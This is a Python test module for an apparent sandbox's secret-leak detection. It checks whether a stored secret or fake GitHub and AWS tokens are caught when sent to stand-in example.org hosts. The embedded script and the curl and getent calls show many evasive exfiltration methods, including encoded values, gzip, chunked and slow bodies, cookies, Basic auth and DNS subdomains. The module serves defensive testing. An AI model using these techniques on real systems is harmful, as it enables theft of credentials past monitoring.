# SPDX-License-Identifier: Apache-2.0
"""What must not leave: values of stored secrets that the call has, and credentials by rule, in requests and names.

Every place and form once for each action; the control is the same act under a policy that looks for nothing, where it arrives.
"""

import base64
import gzip
import subprocess
import sys
import urllib.parse

PY = sys.executable if sys.executable.startswith('/usr') else '/usr/bin/python3'
VALUE = 'Lk7xQ2mNp9Rt4Vw8Yb3Zc6Df'
SHORT = 'q7h2k9xw3m'
GITHUB = 'ghp_' + 'aZ3kQ9xW1mN7bV5cR2tY8uL4pD6sF0gH1jK2'  # the shape alone: nobody's
AMAZON = 'AKIA' + 'Z7Q2M4N6P5R3T3V5'  # the same

POLICY = '''cordon: 1
sandbox:
  capabilities:
    network:
      mode: allowlist
      allowed_hosts: [web.example.org, api.example.org, "*.wild.example.org", "web.example.org:8080"]
      allow_private: [203.0.113.0/24]
    secrets:
      injection: environment
      grants:
        - {name: LEAKED%s}
%s'''
SCAN = 'policy:\n  secret_scanning: {enabled: true, scope: output, action: %s}\n'

# Runs inside: argv is the form, the place and the host; says what the server said.
INSIDE = r'''
import base64, gzip, http.client, os, socket, sys, time, urllib.parse
form, place, host = sys.argv[1:4]
v = (os.environ['LEAKED'] if form != 'rule' else sys.argv[4]).encode()
t = {'plain': v, 'base64': base64.b64encode(b'xy' + v), 'hex': v.hex().encode(), 'reversed': v[::-1], 'rule': v,
     'url': ''.join('%%%02x' % b for b in v).encode(), 'twice': base64.b64encode(base64.b64encode(v))}[form].decode()
fields, body, method, path = {}, None, 'GET', '/leak'
if place == 'query': path += '?k=' + (t if form == 'url' else urllib.parse.quote(t))
elif place == 'path': path += '/' + urllib.parse.quote(t, safe='%')
elif place == 'field': fields['X-Key'] = t
elif place == 'credentials': fields['Authorization'] = 'Basic ' + base64.b64encode(b'u:' + v).decode()
elif place == 'cookie': fields['Cookie'] = 'a=1; s=' + t
elif place in ('body', 'gzip', 'chunked', 'slow', 'multipart', 'odd'): method, body = 'POST', b'some=thing&k=' + t.encode() + b'&more=1' + b'\n' * 20
if place == 'gzip': body = gzip.compress(body); fields['Content-Encoding'] = 'gzip'
if place == 'odd': fields['Content-Encoding'] = 'br'
if place == 'multipart':
    fields['Content-Type'] = 'multipart/form-data; boundary=zz'
    body = b'--zz\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n' + body + b'\r\n--zz--\r\n'
if place == 'chunked':
    at = len(body) // 2
    body = iter([body[:at - 9], body[at - 9:at], body[at:]]); fields['Transfer-Encoding'] = 'chunked'
try:
    if place == 'slow':
        s = socket.create_connection((host, 80)); s.settimeout(10)
        data = b'POST /leak HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nConnection: close\r\nContent-Length: %d\r\n\r\n' % len(body) + body
        for i in range(0, len(data), 5): s.sendall(data[i:i + 5]); time.sleep(0.005)
        print(s.recv(65536)[:200])
    else:
        c = http.client.HTTPConnection(host, 80, timeout=10)
        c.request(method, path, body=body, headers=fields, encode_chunked=place == 'chunked')
        r = c.getresponse(); print(r.status, r.getheader('x-proxy-error'), len(r.read()))
except OSError as e:
    print('closed', e)
'''


def forms(value):
    raw = value.encode()
    return [value, value[::-1], raw.hex(), base64.b64encode(raw).decode()[:-4], base64.b64encode(b'xy' + raw).decode()[4:-4],
            ''.join('%%%02x' % b for b in raw), base64.b64encode(b'u:' + raw).decode()[4:-4], base64.b64encode(base64.b64encode(raw)).decode()[:-8]]


def shown(seen, value):
    """Is any form of it in what the server got?"""
    text = ''
    for method, path, fields, body in seen:
        if fields.get('content-encoding') == 'gzip':
            body = gzip.decompress(body)
        text += '%s %s %s %r %s\n' % (method, path, urllib.parse.unquote(path), fields, body.decode('latin-1'))
    return [f for f in forms(value) if f in text]


def request(r, name, policy, words, want, value=VALUE, rule='stored-secret'):
    """want: hidden, refused, passed on, or None: nothing is found, and it arrives."""
    if not r.wanted(name):
        return
    r.server.seen.clear()
    try:
        text, report = r.run(['-p', policy], [PY, '-c', INSIDE, *words])
    except Exception as e:  # pylint: disable=broad-except
        r.result(name, repr(e))
        return
    seen, findings = list(r.server.seen), report['verdict']['findings']
    found = [f for f in findings if f['rule'].startswith(rule) and f['type'] == 'data_leak' and 'of a request' in f['message']]
    leaked = shown(seen, value)
    problem = ''
    if (want in ('hidden', 'refused')) == bool(leaked):
        problem = 'the server saw %r' % seen
    elif want == 'hidden' and not any('*' * 8 in repr(s) for s in seen):
        problem = 'nothing covered arrived: %r' % seen
    elif want == 'refused' and not [d for d in report['denied'] if d['target'].startswith(words[2])]:
        problem = 'not in %r' % report['denied']
    elif not want and found:
        problem = 'found %r' % found
    elif want and not any(f['message'].endswith(want) for f in found):
        problem = 'no finding %s in %r' % (want, findings)
    elif value in str(findings):
        problem = 'a finding shows it: %r' % findings
    r.result(name, problem and problem + '; said %r' % text[:300])


def label(r, name, policy, host, want, rule='stored-secret'):
    """A name is looked up: refused before it is asked of anybody, or told."""
    if not r.wanted(name):
        return
    r.names.asked.clear()
    text, report = r.run(['-p', policy], ['getent', 'hosts', host])
    asked = [n for n in r.names.asked if n == host.lower()]
    found = [f for f in report['verdict']['findings'] if f['rule'].startswith(rule) and 'in a name' in f['message']]
    problem = ''
    if (want == 'refused') == bool(asked):
        problem = 'asked for: %r' % r.names.asked
    elif bool(want) != bool(found) or (want and not any(f['message'].endswith(want) for f in found)):
        problem = 'findings %r' % report['verdict']['findings']
    r.result(name, problem and problem + '; said %r' % text[:200])


def cut(text, n=20):
    return '.'.join(text[i:i + n] for i in range(0, len(text), n))


def names(r, policies):
    raw = VALUE.encode()
    b32 = base64.b32encode(raw).decode().rstrip('=')
    told = {'redact': 'refused', 'block': 'refused', 'warn': 'passed on'}
    for action in ('redact', 'warn'):
        p = policies[action]
        for what, text in (('plain', VALUE), ('backwards', VALUE[::-1]), ('hex', cut(raw.hex())), ('base32', cut(b32)), ('half of it in hex', raw.hex()[:24]),
                           ('base64', base64.urlsafe_b64encode(raw).decode().rstrip('='))):
            label(r, 'leak: in a name, %s (%s)' % (what, action), p, text + '.wild.example.org', told[action])
    label(r, 'leak: a token in a name, by rule', policies['redact'], AMAZON + '.wild.example.org', 'refused', 'SECRET-')
    label(r, 'leak: a token in a name, told by rule', policies['warn'], AMAZON + '.wild.example.org', 'passed on', 'SECRET-')
    label(r, 'leak: a harmless name', policies['redact'], 'b.a.wild.example.org', None)
    label(r, 'leak: in a name where nobody looks', policies['nothing'], VALUE + '.wild.example.org', None)
    name = 'leak: in the name of a host, through the proxy'
    if r.wanted(name):
        r.names.asked.clear()
        text, report = r.run(['-p', policies['redact']], ['sh', '-c', 'curl -sS -m 10 -o /dev/null -w "%{http_code}" "http://$LEAKED.wild.example.org/"'])
        problem = '' if text in ('400', '403') and not r.names.asked and any(f['rule'] == 'stored-secret' for f in report['verdict']['findings']) else repr((text, report))
        r.result(name, problem)


def run(r):
    if not r.wanted('leak: ') and not any('leak' in w for w in r.words):
        return
    policies = {}
    # One that is bound may only be given to a call that can speak to nobody else.
    bound = (POLICY % (', hosts: [api.example.org]', SCAN % 'block')).replace('web.example.org, ', '').replace(', "web.example.org:8080"', '').replace(
        ', "*.wild.example.org"', '')
    for name, text in {'bound': bound, 'nothing': POLICY % ('', ''), **{a: POLICY % ('', SCAN % a) for a in ('redact', 'block', 'warn')}}.items():
        policies[name] = '%s/leak-%s.yaml' % (r.scratch, name)
        with open(policies[name], 'w') as file:
            file.write(text)
    subprocess.run([*r.prefix, r.cordon, 'secret', 'set', 'LEAKED'], input=VALUE.encode(), check=True, stdout=subprocess.DEVNULL)
    web, api = 'web.example.org', 'api.example.org'
    done = {'redact': 'hidden', 'block': 'refused', 'warn': 'passed on', 'nothing': None}
    for place in ('query', 'path', 'field', 'credentials', 'cookie', 'body', 'chunked', 'slow', 'multipart'):
        for policy, want in done.items():
            request(r, 'leak: the value in %s (%s)' % (place, policy), policies[policy], ['plain', place, web], want)
    for form in ('base64', 'hex', 'url', 'reversed', 'twice'):
        for place in ('query', 'field', 'body'):
            request(r, 'leak: the value as %s in %s' % (form, place), policies['redact'], [form, place, web], 'hidden')
    for policy, want in {**done, 'redact': 'refused'}.items():
        request(r, 'leak: the value in gzip (%s)' % policy, policies[policy], ['plain', 'gzip', web], want)
    r.refused('leak: a body in a coding that nobody opens', ['-p', policies['redact']], ['curl', '-sS', '-m', '10', '-H', 'Content-Encoding: br', '-d',
              'abc', 'http://web.example.org/'], r'body=3', web, 'coding')
    for place in ('field', 'credentials', 'body'):
        request(r, 'leak: in %s to the host that it is bound to' % place, policies['bound'], ['plain', place, api], None)
    for place in ('query', 'field', 'body', 'chunked', 'slow'):
        for policy in ('redact', 'block', 'warn'):
            request(r, 'leak: a token by rule in %s (%s)' % (place, policy), policies[policy], ['rule', place, web, GITHUB], done[policy], GITHUB, 'SECRET-GITHUB')
    request(r, 'leak: a token by rule where no rules are asked for', policies['nothing'], ['rule', 'field', web, GITHUB], None, GITHUB, 'SECRET-GITHUB')
    r.allowed('leak: a request without one', ['-p', policies['block']], ['curl', '-sS', '-m', '10', '-d', 'x' * 5000, 'http://web.example.org/post'], r'body=5000')
    r.allowed('leak: a large body without one', ['-p', policies['redact']], ['curl', '-sS', '-m', '20', '-H', 'Expect:', '--data-binary', '@/usr/bin/env',
              'http://web.example.org/post'], r'body=\d{5}')
    names(r, policies)
